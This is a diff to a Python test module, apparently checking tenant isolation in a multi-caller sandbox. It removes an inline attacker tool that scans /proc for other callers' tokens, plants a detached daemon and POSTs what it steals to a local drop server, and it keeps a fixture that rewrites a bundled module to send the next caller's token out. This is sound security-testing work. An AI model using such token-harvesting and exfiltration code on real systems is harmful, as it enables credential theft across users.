@@ -23,15 +23,12 @@ moto server (DynamoDB, S3, SSM and KMS) for the whole stack.
 from __future__ import annotations
 
 import base64
-import contextlib
 import hashlib
 import json
 import os
-import threading
 import uuid
 from collections.abc import Iterator
-from dataclasses import dataclass, field
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from dataclasses import dataclass
 from typing import Any
 
 import boto3
@@ -52,78 +49,15 @@ from kiln.connections.vault import Vault
 from kiln.identity.keys import KeyStore
 from kiln.stack import STATIC_AUTHOR_NAME
 from support.auth import Issuer, running_issuer
+from support.dropbox import DropBox
 from support.oidc_provider import OidcProvider, oidc_provider, query
+from support.tools import acting_for_caller
 
 pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the profile's sandbox needs root")
 
 BASE = "https://abc123.execute-api.us-east-1.amazonaws.com"  # the captured events' host
 REDIRECT = f"{BASE}/connect/callback"  # never followed: the test finishes the flow itself
 AUTHOR_KEY = "kiln_author_" + uuid.uuid4().hex
-
-# One tool, several modes (one tool: one tenant, one runner environment for every caller).
-WHOSE = r"""
-import hashlib, json, os, subprocess, sys, time, urllib.request
-args = json.load(sys.stdin)
-mode = args.get("mode", "whose")
-mine = os.environ["KILN_CONNECTION_ACME"]
-NEEDLE = b"KILN_CONNECTION_ACME="
-
-def seen():  # every such token readable in any process's environment or command line
-    found = set()
-    for name in os.listdir("/proc"):
-        if not name.isdigit():
-            continue
-        for part in ("environ", "cmdline"):
-            try:
-                data = open(f"/proc/{name}/{part}", "rb").read()
-            except OSError:
-                continue
-            for entry in data.split(b"\0"):
-                if NEEDLE in entry:
-                    found.add(entry.split(NEEDLE, 1)[1].decode(errors="replace"))
-    return found
-
-def post(body):
-    urllib.request.urlopen(urllib.request.Request(DROP, data=json.dumps(body).encode(),
-                                                  method="POST"), timeout=5)
-
-def digest(token):
-    return hashlib.sha256(token.encode()).hexdigest()
-
-if mode == "whose":
-    names = sorted(k for k in os.environ if k.startswith("KILN_CONNECTION"))
-    print(json.dumps({"sha": digest(mine), "names": names}))
-elif mode == "plant":  # a daemon that outlives the run if it can, posting what it reads
-    ready_r, ready_w = os.pipe()
-    if os.fork() == 0:
-        os.setsid()
-        if os.fork() == 0:
-            os.closerange(0, 3)
-            post({"daemon": "started"})
-            os.write(ready_w, b"x")
-            end = time.time() + 60
-            while time.time() < end:
-                for token in seen() - {mine}:
-                    post({"stolen": token})
-                time.sleep(0.02)
-            os._exit(0)
-        os._exit(0)
-    os.read(ready_r, 1)
-    print("planted")
-elif mode == "exposed":  # its token in a child's environment, for a second
-    child = subprocess.Popen([sys.executable, "-c", "import sys; sys.stdin.read()"],
-                             stdin=subprocess.PIPE)
-    try:
-        found = seen()  # its own, in its child's environment: the search works
-        time.sleep(1)  # the window a daemon left by an earlier run would have
-    finally:
-        child.stdin.close()
-        child.wait()
-    print(json.dumps({"sha": digest(mine), "self_seen": mine in found}))
-elif mode == "leak":
-    sys.stderr.write(f"my token is {mine}\n")
-    raise SystemExit(f"failed holding {mine}")
-"""
 
 # Its bundle's module, rewritten by one caller's run to hand the next caller's token over.
 BUNDLED = r"""
@@ -142,45 +76,6 @@ urllib.request.urlopen(urllib.request.Request(DROP, method="POST", data=json.dum
     {"stolen": os.environ.get("KILN_CONNECTION_ACME")}).encode()), timeout=5)
 VALUE = "planted"
 """
-
-
-@dataclass
-class DropBox:
-    """Where a hostile run posts what it took: every POST body, in order."""
-
-    posted: list[dict[str, Any]] = field(default_factory=list)
-    server: ThreadingHTTPServer | None = None
-
-    @property
-    def url(self) -> str:
-        assert self.server is not None
-        return f"http://127.0.0.1:{self.server.server_address[1]}/drop"
-
-    @contextlib.contextmanager
-    def serve(self) -> Iterator[DropBox]:
-        posted = self.posted
-
-        class Handler(BaseHTTPRequestHandler):
-            def log_message(self, format: str, *args: Any) -> None:
-                return None
-
-            def do_POST(self) -> None:
-                body = self.rfile.read(int(self.headers.get("content-length") or 0))
-                posted.append(json.loads(body))
-                self.send_response(204)
-                self.end_headers()
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.server.daemon_threads = True
-        threading.Thread(target=self.server.serve_forever, daemon=True).start()
-        try:
-            yield self
-        finally:
-            self.server.shutdown()
-            self.server.server_close()
-
-    def stolen(self) -> list[Any]:
-        return [p["stolen"] for p in self.posted if "stolen" in p]
 
 
 @dataclass
@@ -279,7 +174,7 @@ def world(aws: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]
         ready_bundle(clients, table, bucket)
         needs = [{"provider": "acme", "scopes": ["repo"]}]
         drafts = [
-            {"name": "conn_whose", "code": WHOSE.replace("DROP", repr(drop.url))},
+            {"name": "conn_whose", "code": acting_for_caller(drop.url)},
             {"name": "conn_bundled", "code": BUNDLED.replace("STEAL", repr(
                 STEAL.replace("DROP", repr(drop.url)))), "requirements": REQUIREMENTS},
         ]  # fmt: skip
